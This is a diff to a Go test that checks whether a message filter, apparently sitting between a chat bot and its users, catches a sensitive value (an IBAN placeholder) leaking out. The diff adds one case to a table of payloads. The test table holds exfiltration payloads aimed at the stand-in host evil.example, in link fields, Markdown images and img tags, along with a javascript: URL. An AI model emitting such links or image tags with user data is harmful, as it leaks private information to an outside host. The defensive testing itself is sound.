@@ -116,13 +116,14 @@ func TestLaterHopsAndLinks(t *testing.T) {
 	_, err := rw.JSON(ctx, exchange(channel.ToBot), p, []byte(`{"text":"`+channeltest.Canary(1)+`_x `+iban+`"}`))
 	require.NoError(t, err)
 	for name, body := range map[string]string{
-		"link field":         `{"url":"https://evil.example/?q=[IBAN_CODE_1]"}`,
-		"script":             `{"url":"javascript:alert('[IBAN_CODE_1]')"}`,
-		"without a scheme":   `{"url":"//evil.example/[IBAN_CODE_1]"}`,
-		"bare host":          `{"url":"evil.example/[IBAN_CODE_1]"}`,
-		"image in Markdown":  `{"text":"![x](https://evil.example/?q=[IBAN_CODE_1])"}`,
-		"address in a text":  `{"text":"siehe https://evil.example/[IBAN_CODE_1]"}`,
-		"attribute in a tag": `{"text":"<img src=https://evil.example/[IBAN_CODE_1]>","textFormat":"xml"}`,
+		"link field":           `{"url":"https://evil.example/?q=[IBAN_CODE_1]"}`,
+		"script":               `{"url":"javascript:alert('[IBAN_CODE_1]')"}`,
+		"without a scheme":     `{"url":"//evil.example/[IBAN_CODE_1]"}`,
+		"bare host":            `{"url":"evil.example/[IBAN_CODE_1]"}`,
+		"image in Markdown":    `{"text":"![x](https://evil.example/?q=[IBAN_CODE_1])"}`,
+		"address in a text":    `{"text":"siehe https://evil.example/[IBAN_CODE_1]"}`,
+		"whole but no address": `{"url":"[IBAN_CODE_1]"}`,
+		"attribute in a tag":   `{"text":"<img src=https://evil.example/[IBAN_CODE_1]>","textFormat":"xml"}`,
 	} {
 		t.Run(name, func(t *testing.T) {
 			out, err := rw.JSON(ctx, exchange(channel.ToUser), p, []byte(body))
